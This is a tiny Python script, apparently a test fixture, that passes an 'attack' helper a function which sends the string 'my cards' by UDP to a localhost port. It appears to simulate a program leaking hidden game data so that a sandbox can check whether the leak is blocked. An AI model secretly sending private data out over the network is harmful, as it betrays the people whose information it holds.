"""It sends its cards away."""

import socket

from _attack import AIMS, attack


def send() -> int:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"my cards", ("127.0.0.1", AIMS["udp"]))


attack(send)
